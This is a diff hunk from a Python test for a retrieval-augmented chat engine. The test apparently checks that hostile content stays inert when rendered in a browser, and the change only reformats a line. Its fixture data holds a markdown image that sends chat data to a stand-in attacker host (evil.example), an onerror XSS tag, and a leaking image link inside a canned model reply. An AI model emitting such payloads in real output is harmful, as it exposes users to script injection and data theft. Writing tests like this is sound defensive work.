@@ -78,7 +78,9 @@ def test_hostile_content_is_inert_in_the_browser(browser, tmp_path, embedder):
         "![leak](https://evil.example/collect?chat=secret) The unit cleared forty mines that week.\n"
     )
     settings = rag.Settings(corpus_dir=tmp_path / "corpus", index_dir=tmp_path / "index", llm_backend="local")
-    model = ReplayChatModel(["The unit cleared forty mines that week [1]. <img src=x onerror=alert(2)> ![x](https://evil.example/leak.png)"])
+    model = ReplayChatModel(
+        ["The unit cleared forty mines that week [1]. <img src=x onerror=alert(2)> ![x](https://evil.example/leak.png)"]
+    )
     engine = rag.Engine(settings, embedder=embedder, llm=model)
     engine.ingest()
     url = serve(engine)
